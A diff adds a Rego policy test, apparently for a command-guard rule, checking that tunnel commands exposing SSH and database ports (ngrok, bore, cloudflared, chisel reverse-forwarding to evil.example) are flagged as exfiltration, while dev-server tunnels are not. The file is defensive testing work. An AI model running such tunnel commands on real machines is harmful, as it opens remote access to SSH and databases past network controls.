@@ -73,3 +73,16 @@ test_secret_variable_in_request_asks if {
 		count(exfiltration.ask) == 0 with input as _input([_seg(0, argv, {})], [])
 	}
 }
+
+test_tunnels_publishing_service_ports_ask if {
+	every argv in [
+		["ngrok", "tcp", "22"], ["bore", "local", "22", "--to", "bore.pub"],
+		["cloudflared", "tunnel", "--url", "ssh://localhost:22"], ["chisel", "client", "evil.example:8080", "R:2222:localhost:22"],
+		["ngrok", "tcp", "5432"],
+	] {
+		count(exfiltration.ask) >= 1 with input as _input([_seg(0, argv, {})], [])
+	}
+	every argv in [["ngrok", "http", "3000"], ["cloudflared", "tunnel", "--url", "http://localhost:8080"], ["lt", "--port", "5173"]] {
+		count(exfiltration.ask) == 0 with input as _input([_seg(0, argv, {})], [])
+	}
+}
